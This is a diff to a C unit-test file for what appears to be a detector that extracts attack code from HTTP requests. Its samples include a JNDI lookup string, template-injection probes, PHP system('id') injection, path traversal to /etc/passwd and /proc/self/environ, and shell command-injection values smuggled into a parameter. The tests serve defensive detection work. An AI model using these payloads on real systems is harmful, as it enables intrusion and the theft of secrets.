@@ -1,6 +1,8 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
 /* Attack code out of requests: what is found, as which language, in which context, and what is not. */
+#include "control/extract/command.h"
 #include "control/extract/extract.h"
+#include "control/extract/known.h"
 
 #include <setjmp.h>
 #include <stdarg.h>
@@ -35,10 +37,47 @@ static void expect(const struct sample *s)
 	extraction_free(e);
 }
 
+static void expect_same(const struct extraction *a, const struct extraction *b)
+{
+	assert_int_equal(a->count, b->count);
+	assert_int_equal(a->left, b->left);
+	for (unsigned i = 0; i < a->count; i++) {
+		const struct attack_code *x = &a->codes[i], *y = &b->codes[i];
+
+		assert_true(x->language == y->language && bytes_equal(x->text, y->text) && bytes_equal(x->value, y->value));
+		assert_true(x->contexts == y->contexts && x->sink == y->sink && x->offset == y->offset && x->carrier == y->carrier && x->quiet == y->quiet);
+	}
+}
+
+/* What is found in a request does not hang on the values that are known from others, or from itself. */
+static void expect_known(struct known *known, const char *request)
+{
+	const char *body = strstr(request, "\r\n\r\n");
+	struct case_record record = { .app = APP_HTTP };
+	struct extraction *alone = NULL, *among = NULL;
+
+	if (body == NULL)
+		return;
+	body += 4;
+	record.parts[PART_REQUEST_HEAD] = (struct case_part){ .present = true, .head = bytes_of(request, (size_t)(body - request)) };
+	record.parts[PART_REQUEST_BODY] = (struct case_part){ .present = true, .head = bytes_text(body) };
+	assert_int_equal(extract_case(&record, NULL, &alone), 0);
+	assert_int_equal(extract_case(&record, known, &among), 0);
+	expect_same(alone, among);
+	extraction_free(alone);
+	extraction_free(among);
+}
+
 static void expect_all(const struct sample *samples, size_t count)
 {
+	struct known *known = known_new();
+
+	assert_non_null(known);
 	for (size_t i = 0; i < count; i++)
 		expect(&samples[i]);
+	for (size_t i = 0; i < 3 * count; i++)
+		expect_known(known, samples[i % count].request);
+	known_free(known);
 }
 
 #define HEAD(target) "GET " target " HTTP/1.1\r\nHost: shop\r\n\r\n"
@@ -160,6 +199,9 @@ static void code_in_headers_does_not_hang_on_the_resource(void **state)
 		{ "GET / HTTP/1.1\r\nUser-Agent: ${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}\r\n\r\n", LANGUAGE_JNDI,
 		  "${${::-j}${lower:n}d${env:NO:-i}:ldap://h/x}", CONTEXT_ALONE, SINK_HEADER },
 		/* a log that is included later runs it; in a body only the resource does */
+		/* of a path an application takes the part for its value that the code stands in */
+		{ HEAD("/hello/to/dear%20%7B%7B7*7%7D%7D/now"), LANGUAGE_TEMPLATE, "dear {{7*7}}", CONTEXT_ALONE, SINK_HEADER },
+		{ HEAD("/hello/%7B%7B14/2%7D%7D"), LANGUAGE_TEMPLATE, "{{14/2}}", CONTEXT_ALONE, SINK_HEADER },
 		{ HEAD("/missing?%3C?php%20system('id');"), LANGUAGE_PHP, "<?php system('id');", CONTEXT_ALONE, SINK_HEADER },
 		{ "POST /eval-stdin.php HTTP/1.1\r\n\r\n<?php system('id');", LANGUAGE_PHP, "<?php system('id');",
 		  CONTEXT_ALONE, SINK_RESOURCE },
@@ -175,11 +217,71 @@ static void paths_that_leave_their_folder_are_code(void **state)
 		{ HEAD("/v?page=..%252f..%252fetc/hosts"), LANGUAGE_PATH, "../../etc/hosts", CONTEXT_ALONE, SINK_RESOURCE },
 		{ HEAD("/%2e%2e/%2e%2e/etc/hosts"), LANGUAGE_PATH, "/../../etc/hosts", CONTEXT_ALONE, SINK_RESOURCE },
 		{ HEAD("/v?page=/etc/hostname"), LANGUAGE_PATH, "/etc/hostname", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/v?page=file:/etc/hostname"), LANGUAGE_PATH, "file:/etc/hostname", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/v?page=/windows%5CWin.ini"), LANGUAGE_PATH, "/windows\\Win.ini", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/files/%2Fetc%2Fpasswd"), LANGUAGE_PATH, "/etc/passwd", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/api/files/proc/self/environ"), LANGUAGE_PATH, "/proc/self/environ", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/v?page=./WEB-INF/web.xml"), LANGUAGE_PATH, "./WEB-INF/web.xml", CONTEXT_ALONE, SINK_RESOURCE },
+		{ HEAD("/app/;/WEB-INF/classes/a.properties"), LANGUAGE_PATH, "/app/;/WEB-INF/classes/a.properties", CONTEXT_ALONE,
+		  SINK_RESOURCE },
+		{ HEAD("/man/etc/passwd.html"), 0, NULL, 0, 0 },
+		{ HEAD("/v?page=/windows/download"), 0, NULL, 0, 0 },
 		{ HEAD("/a/../b/style.css"), 0, NULL, 0, 0 },
 		{ HEAD("/v?page=pages/help.html"), 0, NULL, 0, 0 },
 	};
 
 	expect_all(samples, COUNT_OF(samples));
+}
+
+static void commands_that_no_shell_starts_are_quiet(void **state)
+{
+	static const struct sample samples[] = {
+		{ HEAD("/p?ip=10.0.0.1uname%20-a"), LANGUAGE_SHELL, "uname -a", 0, SINK_RESOURCE },
+		{ HEAD("/p?ip=10.0.0.1%5Eid"), LANGUAGE_SHELL, "id", 0, SINK_RESOURCE },
+		{ HEAD("/p?ip=10.0.0.1%5EX%3D%24%27id%27%3B%24X"), LANGUAGE_SHELL, "X=$'id';$X", 0, SINK_RESOURCE },
+		/* some program may take it for a line's end */
+		{ HEAD("/p?ip=10.0.0.1%0Duname%20-a"), LANGUAGE_SHELL, "uname -a", CONTEXT_AFTER, SINK_RESOURCE },
+	};
+
+	expect_all(samples, COUNT_OF(samples));
+	for (size_t i = 0; i < COUNT_OF(samples); i++) {
+		struct extraction *e = NULL;
+
+		assert_int_equal(extract_bytes(bytes_text(samples[i].request), &e), 0);
+		for (unsigned c = 0; c < e->count; c++) {
+			assert_true(e->codes[c].quiet);
+			assert_int_equal(e->codes[c].contexts, samples[i].contexts);
+		}
+		extraction_free(e);
+	}
+}
+
+static bool nowhere(const char *value)
+{
+	return command_starts_nowhere(bytes_text(value));
+}
+
+/* The others are those that a shell was seen to start something of, in one of the three quotings (tests/native/misplaced.py). */
+static void what_starts_nowhere_starts_in_no_quoting(void **state)
+{
+	assert_true(nowhere("10.0.0.1ls -la /"));
+	assert_true(nowhere("10.0.0.1^X=$\"id\";$X"));
+	assert_true(nowhere("10.0.0.1'echo $((7*7))'"));
+	assert_true(nowhere("10.0.0.1<cat /etc/passwd;"));
+	assert_false(nowhere("ls -la /"));
+	assert_false(nowhere("/bin/ls"));
+	assert_false(nowhere("X=id;$X"));
+	assert_false(nowhere("1;X=id;$X"));
+	assert_false(nowhere("1^X=id;$X -a"));
+	assert_false(nowhere("1;${X}id"));
+	assert_false(nowhere("1^id\rid"));
+	assert_false(nowhere("1$(id)"));
+	assert_false(nowhere("1`id`"));
+	assert_false(nowhere("1<(id)"));
+	assert_false(nowhere("1 x>y"));
+	assert_false(nowhere("1'|id|'"));
+	assert_false(nowhere("1\"$((x[$(id)]))\""));
+	assert_false(nowhere("1^\\';id;'"));
 }
 
 static void ordinary_text_gives_nothing(void **state)
@@ -352,6 +454,8 @@ int main(void)
 		cmocka_unit_test(values_beyond_the_bound_are_counted),
 		cmocka_unit_test(code_in_headers_does_not_hang_on_the_resource),
 		cmocka_unit_test(paths_that_leave_their_folder_are_code),
+		cmocka_unit_test(commands_that_no_shell_starts_are_quiet),
+		cmocka_unit_test(what_starts_nowhere_starts_in_no_quoting),
 		cmocka_unit_test(ordinary_text_gives_nothing),
 		cmocka_unit_test(a_code_tells_where_it_stood_and_how_it_was_written),
 		cmocka_unit_test(uploads_of_noise_give_nothing),
